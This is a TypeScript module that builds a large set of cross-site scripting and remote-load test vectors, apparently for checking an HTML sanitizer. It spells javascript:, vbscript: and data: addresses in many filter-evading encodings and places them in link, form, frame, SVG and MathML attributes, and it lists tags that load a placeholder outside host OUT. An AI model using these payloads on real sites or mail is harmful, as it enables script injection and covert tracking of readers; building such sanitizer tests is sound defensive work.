/** Addresses: schemes that run something in every spelling, and every attribute that a browser takes an address from. */
import type { Vector, Wires } from './vector.ts'

const base64 = (text: string) => Buffer.from(text).toString('base64')
const each = (text: string, as: (code: number) => string) =>
  [...text].map(character => as(character.codePointAt(0)!)).join('')

/** What makes an address from the call. */
const spelled: [string, (run: string) => string][] = [
  ['plain', run => `javascript:${run}`],
  ['capitals', run => `JaVaScRiPt:${run}`],
  ['a space before', run => ` javascript:${run}`],
  ['a tab inside', run => `java\tscript:${run}`],
  ['a newline inside', run => `java\nscript:${run}`],
  ['a carriage return inside', run => `java\rscript:${run}`],
  ['a tab before the colon', run => `javascript\t:${run}`],
  ['a form feed before', run => `\fjavascript:${run}`],
  ['a control character before', run => `\x01javascript:${run}`],
  ['an escape character before', run => `\x1bjavascript:${run}`],
  ['a null inside', run => `java\0script:${run}`],
  ['a no-break space before', run => `\u00a0javascript:${run}`],
  ['a byte order mark before', run => `\ufeffjavascript:${run}`],
  ['a zero-width space inside', run => `java\u200bscript:${run}`],
  ['a soft hyphen inside', run => `java\u00adscript:${run}`],
  ['full width letters', run => `${each('javascript', code => String.fromCodePoint(code + 0xfee0))}:${run}`],
  ['a full width colon', run => `javascript\uff1a${run}`],
  ['a long s', run => `java\u017fcript:${run}`],
  ['decimal references', run => each(`javascript:${run}`, code => `&#${code};`)],
  ['decimal references without an end', run => each(`javascript:${run}`, code => `&#${code}`)],
  ['padded references', run => each(`javascript:${run}`, code => `&#${String(code).padStart(9, '0')};`)],
  ['hexadecimal references', run => each(`javascript:${run}`, code => `&#x${code.toString(16)};`)],
  [
    'hexadecimal references in capitals',
    run => each(`javascript:${run}`, code => `&#X${code.toString(16)};`),
  ],
  ['a named tab', run => `java&Tab;script:${run}`],
  ['a named newline', run => `java&NewLine;script:${run}`],
  ['a named colon', run => `javascript&colon;${run}`],
  ['a reference to a control character', run => `&#1;javascript:${run}`],
  ['a reference to null', run => `java&#0;script:${run}`],
  ['per cent', run => `javascript%3A${run}`],
  ['per cent in the scheme', run => `%6Aavascript:${run}`],
  ['backslash escapes', run => `\\6aavascript:${run}`],
  ['unicode escapes', run => `\\u006aavascript:${run}`],
  ['a comment first', run => `javascript:/*\n*/${run}`],
  ['a host first', run => `javascript://example.org/%0a${run}`],
  ['a label first', run => `javascript:https://example.org;${run}`],
  ['in view-source', run => `view-source:javascript:${run}`],
  ['in feed', run => `feed:javascript:${run}`],
  ['in jar', run => `jar:javascript:${run}!/`],
  ['in about', run => `about:javascript:${run}`],
  ['in a mail address', run => `mailto:x@example.org?subject=javascript:${run}`],
  ['vbscript', run => `vbscript:${run}`],
  ['vbscript with a tab', run => `vb\tscript:${run}`],
  ['livescript', run => `livescript:${run}`],
  ['mocha', run => `mocha:${run}`],
  ['a page as data', run => `data:text/html,<script>${run}</script>`],
  ['a page as base64', run => `data:text/html;base64,${base64(`<script>${run}</script>`)}`],
  ['a page as data in capitals', run => `DATA:TEXT/HTML,<script>${run}</script>`],
  ['a page as data with a charset', run => `data:text/html;charset=utf-7,+ADw-script+AD4-${run}`],
  ['a page as data without a type', run => `data:,<script>${run}</script>`],
  [
    'a drawing as data',
    run => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`,
  ],
  [
    'a drawing as base64',
    run =>
      `data:image/svg+xml;base64,${base64(`<svg xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>`)}`,
  ],
  [
    'xhtml as data',
    run =>
      `data:application/xhtml+xml,<html xmlns='http://www.w3.org/1999/xhtml'><script>${run}</script></html>`,
  ],
  ['xml as data', run => `data:text/xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>${run}</x:script>`],
  ['data with a newline', run => `da\nta:text/html,<script>${run}</script>`],
  ['blob', run => `blob:null/${run}`],
  ['filesystem', run => `filesystem:https://example.org/${run}`],
  ['a local file', run => `file:///etc/passwd#${run}`],
  ['a protocol handler', run => `ms-msdt:/id ${run}`],
  ['a search of the shell', run => `search-ms:query=${run}`],
  ['an intent', run => `intent://example.org/#Intent;scheme=javascript;end;${run}`],
]

const quoted = (text: string) => text.replaceAll('"', '&quot;')

const links: Vector[] = spelled.map(([name, make]) => ({
  name: `a link to ${name}`,
  make: ({ run }: Wires) => `<a href="${quoted(make(run))}">${quoted(name)}</a>`,
}))

const pictures: Vector[] = spelled
  .filter(([, make]) => /data|script/i.test(make('')))
  .slice(0, 24)
  .map(([name, make]) => ({
    name: `a picture of ${name}`,
    make: ({ run }: Wires) => `<img src="${quoted(make(run))}" alt="x">`,
  }))

/** Each takes an address; the address is put where it says ADDRESS. */
const carriers = [
  '<area href="ADDRESS" shape=default>',
  '<map name=m><area href="ADDRESS" coords="0,0,999,999"></map><img usemap=#m src=x width=99>',
  '<form action="ADDRESS"><button>x</button></form>',
  '<button formaction="ADDRESS">x</button>',
  '<form><input type=submit formaction="ADDRESS" value=x></form>',
  '<iframe src="ADDRESS"></iframe>',
  '<frameset><frame src="ADDRESS"></frameset>',
  '<embed src="ADDRESS">',
  '<object data="ADDRESS"></object>',
  '<object classid="ADDRESS" codebase="ADDRESS"></object>',
  '<object><param name=movie value="ADDRESS"></object>',
  '<applet code="ADDRESS" codebase="ADDRESS" archive="ADDRESS"></applet>',
  '<base href="ADDRESS">',
  '<link rel=stylesheet href="ADDRESS">',
  '<meta http-equiv=refresh content="0;url=ADDRESS">',
  '<svg><a href="ADDRESS"><text y=20>x</text></a></svg>',
  '<svg><a xlink:href="ADDRESS"><text y=20>x</text></a></svg>',
  '<svg><use href="ADDRESS"/></svg>',
  '<svg><a><animate attributeName=href values="ADDRESS"/><text y=20>x</text></a></svg>',
  '<svg><a><set attributeName=href to="ADDRESS"/><text y=20>x</text></a></svg>',
  '<math href="ADDRESS">x</math>',
  '<math><maction actiontype=statusline xlink:href="ADDRESS">x</maction></math>',
  '<blockquote cite="ADDRESS">x</blockquote>',
  '<a href="https://example.org/" ping="ADDRESS">x</a>',
  '<isindex action="ADDRESS" type=image>',
]

const elsewhere: Vector[] = carriers.map(carrier => carrier.replaceAll('ADDRESS', 'javascript:RUN'))

/** The same and more, for a server that would know that the message was read. */
const remote: Vector[] = [
  ...carriers.map(carrier => carrier.replaceAll('ADDRESS', 'https://OUT')),
  '<img src="https://OUT">',
  '<img src="http://OUT">',
  '<img src="//OUT">',
  '<img src="\\\\OUT">',
  '<img src="/\\OUT">',
  '<img src="https:OUT">',
  '<img src="https:\\\\OUT">',
  '<img src=" \nhttps://OUT">',
  '<img src="ht\ntps://OUT">',
  '<img src="/&#47;OUT">',
  '<img src="&#x2f;&#x2f;OUT">',
  '<img src="ftp://OUT">',
  '<img src="blob:https://OUT">',
  '<img src="cid:https://OUT">',
  '<img src="cid://OUT">',
  '<img src="cid:x" srcset="https://OUT 1x">',
  '<img srcset="https://OUT 1x, https://OUT 2x" sizes=100vw>',
  '<img src=x lowsrc="https://OUT" dynsrc="https://OUT" longdesc="https://OUT">',
  '<img src="data:image/png;base64,AAAA" srcset="//OUT">',
  '<img attributionsrc="https://OUT" src=x>',
  '<img data-src="https://OUT" data-original="https://OUT" class=lazyload>',
  '<image src="https://OUT">',
  '<picture><source srcset="https://OUT"><img src=x></picture>',
  '<input type=image src="https://OUT">',
  '<video src="https://OUT" autoplay></video>',
  '<video poster="https://OUT"></video>',
  '<video><source src="https://OUT"></video>',
  '<video><track default kind=captions src="https://OUT"></video>',
  '<audio src="https://OUT" preload=auto autoplay></audio>',
  '<audio><source src="https://OUT"></audio>',
  '<bgsound src="https://OUT">',
  '<body background="https://OUT">',
  '<table background="https://OUT"><tr><td>x</td></tr></table>',
  '<table><thead background="https://OUT"><tr background="//OUT"><td background="http://OUT">x</td></tr></table>',
  '<table><td bgcolor="url(https://OUT)">x</td></table>',
  '<ul type="url(https://OUT)"><li>x</ul>',
  '<font face="url(https://OUT)" color="https://OUT">x</font>',
  '<hr background="https://OUT" src="https://OUT">',
  '<div src="https://OUT" data="https://OUT" href="https://OUT">x</div>',
  '<layer src="https://OUT"></layer><ilayer src="https://OUT"></ilayer>',
  '<html manifest="https://OUT"><head profile="https://OUT">x',
  '<portal src="https://OUT"></portal>',
  '<fencedframe src="https://OUT"></fencedframe>',
  '<iframe srcdoc="<img src=https://OUT>"></iframe>',
  '<svg><image href="https://OUT"/></svg>',
  '<svg><image xlink:href="https://OUT"/></svg>',
  '<svg><feImage href="https://OUT"/></svg>',
  '<svg><filter id=f><feImage xlink:href="https://OUT"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>',
  '<svg><rect fill="url(https://OUT#a)" width=9 height=9 /></svg>',
  '<svg><rect mask="url(https://OUT#a)" clip-path="url(https://OUT#b)" width=9 height=9 /></svg>',
  '<svg><text cursor="url(https://OUT)">x</text></svg>',
  '<svg><style>@import "https://OUT"</style></svg>',
  '<svg><foreignObject><img src="https://OUT"></foreignObject></svg>',
  '<math><mglyph src="https://OUT"></mglyph></math>',
  '<template shadowrootmode=open><img src="https://OUT"></template>',
  '<div><template shadowrootmode=open><link rel=stylesheet href="https://OUT"></template></div>',
  '<noscript><img src="https://OUT"></noscript>',
  '<noembed><img src="https://OUT"></noembed>',
  '<noframes><img src="https://OUT"></noframes>',
  '<a href="https://OUT" target=_top rel=opener>nobody presses it</a>',
  '<a href="https://OUT" download rel=prefetch>nobody presses it</a>',
]

/** What a <link> may ask for before anybody does anything. */
const relations =
  `stylesheet|alternate stylesheet|icon|shortcut icon|apple-touch-icon|manifest|preload|prefetch
  |preconnect|dns-prefetch|modulepreload|prerender|next|import|search|compression-dictionary|expect|pingback
  |STYLESHEET|dns-prefetch preconnect`
    .split('|')
    .map(one => one.trim())

const hints: Vector[] = [
  ...relations.map(rel => `<link rel="${rel}" href="https://OUT">`),
  ...['script', 'style', 'image', 'font', 'fetch', 'document'].map(
    as => `<link rel=preload as=${as} href="//OUT" crossorigin>`,
  ),
  '<link rel=preload as=image imagesrcset="https://OUT 1x" imagesizes=1px>',
  '<meta http-equiv=x-dns-prefetch-control content=on><a href="https://OUT">x</a>',
  '<meta http-equiv=Link content="<https://OUT>; rel=preload; as=style">',
]

export const addresses: Record<string, Vector[]> = {
  'links that run': links,
  'pictures that run': pictures,
  'addresses that run': elsewhere,
  'addresses of others': remote,
  'hints to load': hints,
}
